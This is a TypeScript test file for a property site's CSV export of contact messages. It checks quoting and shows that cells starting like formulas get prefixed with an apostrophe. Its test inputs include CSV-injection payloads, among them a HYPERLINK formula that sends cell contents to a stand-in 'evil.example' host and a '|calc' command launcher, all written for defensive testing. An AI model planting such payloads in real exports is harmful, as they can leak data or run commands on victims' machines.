import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { StoredMessage } from './message-store.ts'
import { csvHeader, formatCsv } from './messages-csv.ts'

const columns = [
  'Reference',
  'Received',
  'Form',
  'Property',
  'Name',
  'E-mail',
  'Phone',
  'Subject',
  'Message',
  'Delivery',
]

function message(fields: Record<string, string>): StoredMessage {
  return {
    reference: '7K3-M9Q',
    kind: 'property-inquiry',
    receivedAt: '2026-11-21T08:00:00.000Z',
    fields: { propertyID: 'clx12abc34', name: 'Wanjiru', email: 'wanjiru@example.co.ke', ...fields },
    privacyVersion: '1',
    state: 'waiting',
    deliveries: [],
  }
}

/** Parses RFC 4180, as a spreadsheet does. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [cell = '', quoted, end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    expect(cell).not.toBe('')
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? '')
    if (end !== ',') rows.push([])
  }
  return rows.slice(0, -1)
}

test('has a line for the columns and one for each message', () => {
  expect(csvHeader.startsWith('\uFEFF')).toBe(true)
  const csv = csvHeader + formatCsv(message({ phone: '0700000000', msg: 'Is it "free"?\nAsante, sana' }))
  expect(parse(csv)).toEqual([
    columns,
    [
      '7K3-M9Q',
      '2026-11-21T08:00:00.000Z',
      'property-inquiry',
      'CLX12ABC34',
      'Wanjiru',
      'wanjiru@example.co.ke',
      '0700000000',
      '',
      'Is it "free"?\nAsante, sana',
      'waiting',
    ],
  ])
})

test('has the ids of several properties in one cell', () => {
  expect(parse(formatCsv(message({ propertyID: 'clx12abc34, def' })))[0]?.[3]).toBe('CLX12ABC34, DEF')
})

test.each([
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '+254700000000',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u200b=1+1',
  '＝1+1',
  '|calc',
])('turns a cell that begins like a formula into text: %j', (name) => {
  expect(parse(formatCsv(message({ name })))[0]?.[4]).toBe(`'${name}`)
})

test('keeps whatever is written in its own cell', () => {
  const text = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', ';', '=', "'", ' ', '🏡') })
  fc.assert(
    fc.property(text, (msg) => {
      const [row, ...others] = parse(formatCsv(message({ msg })))
      expect(others).toEqual([])
      expect([msg, `'${msg}`]).toContain(row?.[8])
      expect(row).toHaveLength(columns.length)
      expect(row?.[8]).not.toMatch(/^[=+\-@]/)
    }),
  )
})
